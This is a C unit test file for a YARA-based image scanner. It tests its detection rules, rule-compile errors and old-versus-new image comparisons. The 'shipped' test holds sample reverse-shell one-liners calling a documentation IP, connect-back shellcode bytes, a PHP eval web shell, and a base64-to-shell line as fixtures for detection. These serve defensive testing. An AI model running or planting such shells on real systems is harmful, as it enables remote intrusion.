/* SPDX-License-Identifier: Apache-2.0 */
/* Rules that compile and that do not, what they fit, and what of that is new. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "crypto/err.h"
#include "images/yarascan.h"
#include "tests/unit/crypto/pki.h"
#include "tests/unit/images/pair_rig.h"
#include "tests/unit/images/tar_rig.h"

struct heard {
	const struct yarascan *rules;
	char text[2048]; /* "NAME@offset NAME" */
	size_t n;
};

static int
on_hit(void *arg, const struct yarascan_hit *hit)
{
	struct heard *h = arg;
	h->n += (size_t)snprintf(h->text + h->n, sizeof h->text - h->n, "%s%s", h->n ? " " : "", yarascan_name(h->rules, hit->rule));
	if (hit->have_where)
		h->n += (size_t)snprintf(h->text + h->n, sizeof h->text - h->n, "@%llu", (unsigned long long)hit->where);
	assert_true(h->n < sizeof h->text);
	return 0;
}

static enum yarascan_end
ask(struct yarascan *y, const char *path, struct view bytes, struct heard *h)
{
	struct source s;
	enum yarascan_end end;
	*h = (struct heard){ .rules = y };
	source_memory(&s, bytes);
	assert_int_equal(yarascan_run(y, path, &s, on_hit, h, &end), 0);
	return end;
}

static struct yarascan *
rules(const char *own)
{
	struct yarascan_refusal why = { 0 };
	struct yarascan *y = NULL;
	if (yarascan_new(view_str(own), &y, &why))
		fail_msg("line %u: %s", why.line, why.text);
	return y;
}

/* Each shipped rule, by something it is for. */
static void
shipped(void **state)
{
	(void)state;
	static const struct {
		const char *rule;
		const char *bytes;
		size_t n; /* 0: a text */
	} rows[] = {
		{ "shell_to_the_outside", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.1 99 >/tmp/f", 0 },
		{ "shell_to_the_outside", "bash -i >& /dev/tcp/198.51.100.1/99 0>&1", 0 },
		{ "shell_to_the_outside", "exec 5<>/dev/tcp/198.51.100.1/99;cat <&5 | while read l; do $l; done", 0 },
		{ "shellcode_that_connects",
		    "\x6a\x29\x58\x99\x6a\x02\x5f\x6a\x01\x5e\x0f\x05\x48\x97\x48\xb9\x02\x00\x11\x5c\xc6\x33\x64\x01\x51\x48\x89\xe6", 28 },
		{ "remote_access_kit", "github.com/bishopfox/sliver/implant", 0 },
		{ "botnet_gafgyt", "GETLOCALIP KILLATTK LOLNOGTFO", 0 },
		{ "botnet_mirai", "/bin/busybox MIRAI", 0 },
		{ "botnet_mirai", "\x43\x52\x52\x4e\x47\x56\x02\x4c\x4d\x56\x02\x44\x4d\x57\x4c\x46", 16 },
		{ "miner", "stratum+tcp://pool.example:3333 randomx", 0 },
		{ "backdoor_word", "xmlset_roodkcableoj28840ybtide", 0 },
		{ "updater_that_reports_home", "http://bigdata.adups.com/fota", 0 },
		{ "liblzma_backdoor",
		    "\xf3\x0f\x1e\xfa\x55\x48\x89\xf5\x4c\x89\xce\x53\x89\xfb\x81\xe7\x00\x00\x00\x80\x48\x83\xec\x28\x48\x89\x54\x24\x18\x48\x89\x4c"
		    "\x24\x10",
		    34 },
		{ "hides_in_every_program", "\x7f" "ELF /etc/ld.so.preload dlsym readdir pam_authenticate", 0 },
		{ "kernel_module_that_hides", "\x7f" "ELF vermagic=5.10 sys_call_table getdents64 kallsyms_lookup_name", 0 },
		{ "web_shell", "<?php @eval($_POST['x']); ?>", 0 },
		{ "program_in_a_text",
		    "echo IyEvYmluL3NoCnNsZWVwIDEKc2xlZXAgMQpzbGVlcCAxCnNsZWVwIDEK | base64 -d | sh", 0 },
		{ "packed_program", "\x7f" "ELF UPX! This file is packed with the UPX executable packer", 0 },
		{ "published_signing_key", "\xd1\x06\x08\x1a\x18\x44\x2c\x18\xe8\xfb\xfd\xf7\x0d\xa3\x4f\x1f", 16 },
	};
	struct yarascan *y = rules("");
	struct heard h;
	bool seen[64] = { false };
	assert_true(yarascan_count(y) >= 15 && yarascan_count(y) < 64);
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		char want[128];
		snprintf(want, sizeof want, "%s (shipped)@", rows[i].rule);
		assert_int_equal(ask(y, "x", view_of(rows[i].bytes, rows[i].n ? rows[i].n : strlen(rows[i].bytes)), &h), YARASCAN_DONE);
		if (!strstr(h.text, want))
			fail_msg("%s does not fit row %zu: %s", rows[i].rule, i, h.text);
		for (unsigned k = 0; k < yarascan_count(y); k++)
			seen[k] = seen[k] || strncmp(yarascan_name(y, k), rows[i].rule, strlen(rows[i].rule)) == 0;
	}
	for (unsigned k = 0; k < yarascan_count(y); k++) {
		if (!seen[k] || !yarascan_means(y, k)[0])
			fail_msg("%s has no row here, or says nothing", yarascan_name(y, k));
		assert_int_equal(yarascan_is_mild(y, k), strncmp(yarascan_name(y, k), "packed_program", 14) == 0);
	}
	/* Ordinary words of the same kind. */
	static const char *const texts[] = { "mkfifo /tmp/f; ls | sh -x", "exec 3<>/dev/tcp/localhost/80", "PONG! BOTKILL", "/dev/misc/watchdog",
		"stratum of rock", "\x7f" "ELF /etc/ld.so.preload dlsym", "<?php echo $_POST['x']; ?>", "\x7f" "ELF UPX!", "UPX! UPX! UPX!" };
	for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
		ask(y, "x", view_str(texts[i]), &h);
		if (h.n)
			fail_msg("%s fits %s", h.text, texts[i]);
	}
	yarascan_free(y);
}

static void
refusals(void **state)
{
	(void)state;
	static const struct {
		const char *text;
		unsigned line;
		const char *word;
	} rows[] = {
		{ "rule a { condition: true }\n\nrule b { condition: tru }\n", 3, "undefined identifier" },
		{ "rule a {\n", 2, "syntax error" },
		{ "rule a { strings: $a = \"x\" condition: true }", 1, "unreferenced string" },
		{ "rule a { condition: true }\nrule a { condition: true }", 2, "duplicated identifier" },
		{ "\ninclude \"/etc/passwd\"\n", 2, "include" },
		{ "// time\nimport \"time\"\nrule a { condition: time.now() > 1 }", 2, "module \"time\" is not available" },
		{ "import \"magic\" rule a { condition: magic.type() == \"x\" }", 1, "module \"magic\"" },
		{ "import \"console\" rule a { condition: console.log(\"x\") }", 1, "module \"console\"" },
		{ "import \"pe\" rule a { condition: pe.is_pe }", 1, "module \"pe\"" },
		{ "rule \x1b[31m { condition: true }", 1, "" },
		{ "rule a { strings: $a = /(/ condition: $a }", 1, "" },
	};
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		struct yarascan_refusal why = { 0 };
		struct yarascan *y = NULL;
		assert_int_equal(yarascan_new(view_str(rows[i].text), &y, &why), FG_EFORMAT);
		assert_null(y);
		if (why.line != rows[i].line || !strstr(why.text, rows[i].word) || !why.text[0])
			fail_msg("row %zu, line %u: %s", i, why.line, why.text);
		for (const char *c = why.text; *c; c++)
			assert_true(*c >= 0x20 && *c < 0x7f);
		assert_int_equal(yarascan_new(view_str(rows[i].text), &y, NULL), FG_EFORMAT);
	}
	struct yarascan_refusal why = { 0 };
	struct yarascan *y = NULL;
	assert_int_equal(yarascan_new(view_of("rule a\n{\0}", 10), &y, &why), FG_EFORMAT);
	assert_int_equal(why.line, 2);
	size_t n = YARASCAN_TEXT_MAX + 1;
	char *huge = malloc(n);
	assert_non_null(huge);
	memset(huge, ' ', n);
	assert_int_equal(yarascan_new(view_of(huge, n), &y, &why), FG_EFORMAT);
	assert_non_null(strstr(why.text, "longer than 4194304 bytes"));
	/* Just as long as it may be. */
	assert_int_equal(yarascan_new(view_of(huge, n - 1), &y, &why), 0);
	yarascan_free(y);
	/* More rules than are kept. */
	size_t at = 0;
	for (unsigned i = 0; i <= YARASCAN_RULES_MAX; i++)
		at += (size_t)snprintf(huge + at, n - at, "rule r%u { condition: false }\n", i);
	assert_int_equal(yarascan_new(view_of(huge, at), &y, &why), FG_EFORMAT);
	assert_non_null(strstr(why.text, "more than 20000 rules"));
	/* Compiled, and beyond what the machine that runs it can hold. */
	at = (size_t)snprintf(huge, n, "rule deep { condition: for any i in (1");
	for (unsigned i = 0; i < 20000; i++)
		at += (size_t)snprintf(huge + at, n - at, ",1");
	at += (size_t)snprintf(huge + at, n - at, ") : (i == 0) }");
	assert_int_equal(yarascan_new(view_of(huge, at), &y, &why), FG_EFORMAT);
	assert_string_equal(why.text, "cannot be run: libyara's error 25");
	free(huge);
}

static void
own_rules(void **state)
{
	(void)state;
	struct heard h;
	struct yarascan *y = rules("rule miner { meta: description = \"mine\" severity = \"notice\" strings: $a = \"ore\" condition: $a }\n"
				   "rule by_name { condition: filename == \"x.sh\" and filepath == \"a/x.sh\" and extension == \".sh\" }\n"
				   "import \"elf\" import \"math\" import \"hash\"\n"
				   "rule noise { condition: math.entropy(0, filesize) > 1.0 and hash.sha256(0, filesize) == \"x\" or elf.type == 7777 }\n"
				   "private rule quiet { condition: true }\n"
				   "rule big { condition: filesize > 3 }\n");
	ask(y, "a/x.sh", view_str("iron ore"), &h);
	assert_string_equal(h.text, "miner@5 by_name big");
	ask(y, "x", view_str("ore"), &h);
	assert_string_equal(h.text, "miner@0");
	ask(y, "x", view_str(""), &h);
	assert_string_equal(h.text, "");
	bool wanted[64] = { false };
	for (unsigned i = 0; i < yarascan_count(y); i++)
		wanted[i] = strcmp(yarascan_name(y, i), "big") == 0;
	yarascan_only(y, wanted);
	ask(y, "a/x.sh", view_str("iron ore"), &h);
	assert_string_equal(h.text, "big");
	yarascan_only(y, NULL);
	ask(y, "a/x.sh", view_str("iron ore"), &h);
	assert_string_equal(h.text, "miner@5 by_name big");
	yarascan_free(y);
}

/* Over several blocks, and where one ends and the next begins. */
static void
blocks(void **state)
{
	(void)state;
	size_t n = 2 * YARASCAN_BLOCK + 1000;
	uint8_t *bytes = calloc(n, 1);
	struct heard h;
	assert_non_null(bytes);
	struct yarascan *y = rules("rule edge { strings: $a = \"over the edge\" condition: $a }\n"
				   "rule both { strings: $a = \"head\" $b = \"tail\" condition: $a at 0 and $b at filesize - 4 }\n"
				   "rule once { strings: $a = \"over the edge\" condition: #a == 1 }\n"
				   "rule word { condition: uint16be(8388608) == 0x6564 }\n");
	static const size_t where[] = { 5, YARASCAN_BLOCK - 6, YARASCAN_BLOCK - YARASCAN_OVERLAP - 6, YARASCAN_BLOCK - YARASCAN_OVERLAP,
		2 * YARASCAN_BLOCK - YARASCAN_OVERLAP - 6, 2 * YARASCAN_BLOCK + 900 };
	for (size_t i = 0; i < sizeof where / sizeof where[0]; i++) {
		char want[128];
		memset(bytes, 0, n);
		memcpy(bytes, "head", 4);
		memcpy(bytes + n - 4, "tail", 4);
		memcpy(bytes + where[i], "over the edge", 13);
		assert_int_equal(ask(y, "x", view_of(bytes, n), &h), YARASCAN_DONE);
		snprintf(want, sizeof want, "edge@%zu both@0 once@%zu", where[i], where[i]);
		assert_true(strncmp(h.text, want, strlen(want)) == 0);
	}
	memset(bytes, 0, n);
	memcpy(bytes + YARASCAN_BLOCK, "ed", 2);
	ask(y, "x", view_of(bytes, n), &h);
	assert_string_equal(h.text, "word");
	yarascan_free(y);
	free(bytes);
}

static void
million_matches(void **state)
{
	(void)state;
	size_t n = 3u << 20;
	uint8_t *bytes = malloc(n);
	struct heard h;
	assert_non_null(bytes);
	memset(bytes, 'a', n);
	/* One place is enough: done, whatever the bytes. */
	struct yarascan *y = rules("rule once { strings: $a = \"aaaa\" condition: $a }");
	assert_int_equal(ask(y, "x", view_of(bytes, n), &h), YARASCAN_DONE);
	assert_string_equal(h.text, "once@0");
	yarascan_free(y);
	/* A condition that counts: it is told that the count is no count. */
	y = rules("rule counts { strings: $a = \"aaaa\" condition: #a > 2000000 }");
	assert_int_equal(ask(y, "x", view_of(bytes, n), &h), YARASCAN_MANY);
	yarascan_free(y);
	free(bytes);
}

/* ---- against an old image ---- */

static void
compare_bytes(struct view old, struct view new, const char *own, char *dst, size_t cap)
{
	struct pair_rig r;
	struct page *p = page_new();
	assert_non_null(p);
	pair_rig_open(&r, old, new);
	assert_int_equal(yarascan_page(r.pair, view_str(own), p), 0);
	dst[0] = '\0';
	for (size_t i = 0, k = 0; i < page_count(p); i++) {
		const struct page_line *l = page_at(p, i);
		k += (size_t)snprintf(dst + k, cap - k, "%s%s %s %s %s: %s | %s", k ? "\n" : "", page_block_name(l->block),
		    finding_get(l->id)->id, finding_severity_name(l->severity), l->path, l->text, l->evidence);
		assert_true(k < cap);
	}
	page_free(p);
	pair_rig_close(&r);
}

static void
compare(const char *const *old, const char *const *new, const char *own, char *dst, size_t cap)
{
	static uint8_t a[65536], b[65536];
	size_t m = tar_rig(a, sizeof a, old), n = tar_rig(b, sizeof b, new);
	compare_bytes(view_of(a, m), view_of(b, n), own, dst, cap);
}

static void
what_is_new(void **state)
{
	(void)state;
	static const char own[] = "rule ore { meta: description = \"there is ore\" strings: $a = \"iron ore\" condition: $a }";
	char text[8192];
	compare(TAR_RIG("a", "nothing", "b", "words"), TAR_RIG("a", "some iron ore", "b", "words"), own, text, sizeof text);
	assert_string_equal(text, "red CHG-YARA warning a: YARA rule ore: there is ore | iron ore");
	compare(TAR_RIG("a", "some iron ore", "b", "words"), TAR_RIG("a", "more iron ore", "b", "words"), own, text, sizeof text);
	assert_string_equal(text, "files CHG-YARA notice a: YARA rule ore, as before: there is ore | iron ore");
	compare(TAR_RIG("a", "some iron ore", "b", "words"), TAR_RIG("a", "some iron ore", "b", "and iron ore"), own, text, sizeof text);
	assert_string_equal(text, "red CHG-YARA warning b: YARA rule ore, which fits the old image elsewhere: there is ore | iron ore");
	compare(TAR_RIG("a", "some iron ore"), TAR_RIG("a", "some iron ore", "c", "some iron ore"), own, text, sizeof text);
	assert_string_equal(text, "");
	compare(TAR_RIG("a", "some iron ore"), TAR_RIG("c", "some iron ore"), own, text, sizeof text);
	assert_string_equal(text, "");
	compare(TAR_RIG("a", "some iron ore", "b", "x"), TAR_RIG("b", "x"), own, text, sizeof text);
	assert_string_equal(text, "");
	/* Shipped rules work beside, and alone when the others are none. */
	compare(TAR_RIG("a", "x"), TAR_RIG("a", "xmlset_roodkcableoj28840ybtide\n"), own, text, sizeof text);
	assert_true(strncmp(text, "red CHG-YARA warning a: YARA rule backdoor_word (shipped): A word", 65) == 0);
	compare(TAR_RIG("a", "x"), TAR_RIG("a", "xmlset_roodkcableoj28840ybtide\n"), "rule x {\n\nfoo }", text, sizeof text);
	assert_non_null(strstr(text, "red CHG-INCOMPLETE warning : the operator's YARA rules were not used, line 3: syntax error"));
	assert_non_null(strstr(text, "backdoor_word"));
}

static void
too_many_parts(void **state)
{
	(void)state;
	static char names[40][8], words[40][32];
	const char *old[] = { "x", "y", NULL }, *new[81] = { NULL };
	char text[16384];
	for (unsigned i = 0; i < 40; i++) {
		snprintf(names[i], sizeof names[i], "f%02u", i);
		snprintf(words[i], sizeof words[i], "iron ore %u", i);
		new[2 * i] = names[i];
		new[2 * i + 1] = words[i];
	}
	compare(old, new, "rule ore { strings: $a = \"iron ore\" condition: $a }", text, sizeof text);
	assert_non_null(strstr(text, "YARA rule ore fits 24 more parts"));
	unsigned lines = 1;
	for (const char *c = text; *c; c++)
		lines += *c == '\n';
	assert_int_equal(lines, YARASCAN_TOLD_MAX + 1);
}

/* A tar of one file of n letters; the caller frees it. */
static struct view
tar_of_letters(const char *name, char letter, size_t n)
{
	size_t cap = 512 + n + 1024;
	uint8_t *t = calloc(1, cap);
	unsigned sum = 0;
	assert_non_null(t);
	assert_int_equal(n % 512, 0);
	(void)tar_rig(t, cap, TAR_RIG(name, ""));
	snprintf((char *)t + 124, 12, "%011zo", n);
	memset(t + 148, ' ', 8);
	for (unsigned i = 0; i < 512; i++)
		sum += t[i];
	snprintf((char *)t + 148, 8, "%06o", sum);
	memset(t + 512, letter, n);
	return view_of(t, cap);
}

/* What was not counted to the end says nothing, and that stands on the page: of either image, with the first part it happened in. */
static void
not_to_the_end(void **state)
{
	(void)state;
	char text[4096];
	struct view few = tar_of_letters("f/few", 'a', 512), many = tar_of_letters("f/many", 'a', 2u << 20);
	struct view more = tar_of_letters("f/more", 'a', (2u << 20) + 512);
	/* More than can be counted: the rule would fit, and does not. */
	compare_bytes(few, many, "rule counts { strings: $a = \"aaaa\" condition: #a > 1500000 }", text, sizeof text);
	assert_string_equal(text, "red CHG-INCOMPLETE warning : YARA rules were not run to their end over the new image: 0 parts too slow, "
				  "0 too much for them, 0 not begun, 1 with more matches than are counted; 0 lost | f/many");
	compare_bytes(many, more, "rule counts { strings: $a = \"aaaa\" condition: #a > 1000 }", text, sizeof text);
	assert_non_null(strstr(text, "YARA rule counts"));
	assert_non_null(strstr(text, "over the old image: 0 parts too slow, 0 too much for them, 0 not begun, 1 with more "
				     "matches than are counted; 0 lost | f/many"));
	assert_non_null(strstr(text, "over the new image: 0 parts too slow, 0 too much for them, 0 not begun, 1 with more "
				     "matches than are counted; 0 lost | f/more"));
	compare_bytes(many, few, "rule counts { strings: $a = \"aaaa\" condition: #a > 1500000 }", text, sizeof text);
	assert_string_equal(text, "");
	free((void *)(uintptr_t)few.p);
	free((void *)(uintptr_t)many.p);
	free((void *)(uintptr_t)more.p);
}

static void
firmware(void **state)
{
	(void)state;
	static const char *const wraps[] = { "sqfs", "flash" };
	char a[64], b[64];
	for (size_t i = 0; i < sizeof wraps / sizeof wraps[0]; i++) {
		struct pair_rig r;
		struct page *p = page_new();
		snprintf(a, sizeof a, "pairs/base.%s", wraps[i]);
		snprintf(b, sizeof b, "pairs/update.%s", wraps[i]);
		struct pki_blob old = pki_load(a), new = pki_load(b);
		pair_rig_open(&r, pki_view(&old), pki_view(&new));
		assert_int_equal(yarascan_page(r.pair, view_of(NULL, 0), p), 0);
		assert_int_equal(page_count(p), 0);
		page_free(p);
		pair_rig_close(&r);
		free(old.p);
		free(new.p);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = { cmocka_unit_test(shipped), cmocka_unit_test(refusals), cmocka_unit_test(own_rules),
		cmocka_unit_test(blocks), cmocka_unit_test(million_matches), cmocka_unit_test(what_is_new), cmocka_unit_test(too_many_parts),
		cmocka_unit_test(not_to_the_end),
		cmocka_unit_test(firmware) };
	return cmocka_run_group_tests(tests, NULL, NULL);
}
